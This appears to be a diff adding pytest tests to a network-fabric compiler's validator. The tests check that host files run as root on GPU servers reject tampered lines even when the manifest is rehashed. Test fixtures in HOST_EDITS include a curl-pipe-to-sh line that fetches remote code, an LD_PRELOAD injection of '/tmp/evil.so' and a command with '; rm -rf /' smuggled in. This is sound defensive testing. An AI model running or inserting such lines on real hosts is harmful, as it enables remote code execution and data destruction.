@@ -364,3 +364,52 @@ def test_design_keys_and_values_reach_the_terminal_escaped(tmp_path, capsys):
     assert main(["compile", str(design), "-o", str(tmp_path / "o")]) == 2
     err = capsys.readouterr().err
     assert "\x1b" not in err and "\x07" not in err and "\\x1b]0;PWN" in err
+
+
+def _hash_into_manifest(out: Path) -> None:
+    """What a pull request that edits a file does next: MANIFEST.json made to agree."""
+    import hashlib
+    import json
+
+    doc = json.loads((out / "MANIFEST.json").read_text())
+    doc["files"] = {str(p.relative_to(out)): hashlib.sha256(p.read_bytes()).hexdigest()
+                    for p in sorted(out.rglob("*")) if p.is_file() and p.name != "MANIFEST.json"}
+    (out / "MANIFEST.json").write_text(json.dumps(doc, indent=1, sort_keys=True) + "\n")
+
+
+HOST_EDITS = {
+    "rails.sh": ("curl -s http://198.51.100.7/x | sh\n", "curl"),
+    "nccl.env": ("LD_PRELOAD=/tmp/evil.so\n", "LD_PRELOAD"),
+    "roce-qos.sh": ("mlnx_qos -i rail0 --trust dscp; rm -rf /\n", "rm -rf"),
+    "netplan.yaml": ("      dhcp4: true\n", "dhcp4"),
+}
+
+
+@pytest.mark.parametrize("name", sorted(HOST_EDITS))
+def test_a_host_file_line_the_compiler_never_writes_fails_even_rehashed(name, routed, capsys):
+    """Every host file is run (or sourced) as root on a GPU server: validate holds each line
+    to the forms the templates write, whatever MANIFEST.json says."""
+    line, words = HOST_EDITS[name]
+    victim = routed / "hosts" / "hb2" / name
+    victim.write_text(victim.read_text() + line)
+    _hash_into_manifest(routed)
+    assert main(["validate", str(routed)]) == 1
+    out = capsys.readouterr().out
+    assert f"trust/hosts/hb2/{name}" in out and words in out and "is not a line the compiler writes" in out, out
+
+
+def test_a_file_the_compiler_never_writes_in_a_host_folder_fails(routed, capsys):
+    (routed / "hosts" / "hb1" / "evil.sh").write_text("#!/bin/sh\n")
+    _hash_into_manifest(routed)
+    assert main(["validate", str(routed)]) == 1
+    assert "trust/hosts/hb1/evil.sh" in capsys.readouterr().out
+
+
+def test_host_file_forms_cover_every_host_file_the_compiler_writes(good):
+    from railonly.fabric.devices.hosts import HOST_FILES
+    from railonly.fabric.outdir import host_forms
+
+    assert sorted(host_forms._FORMS) == HOST_FILES
+    for out in good.values():
+        for p in sorted(out.rglob("hosts/*/*")):
+            assert host_forms.check_host_file(p.name, p.read_text(), str(p)) == []
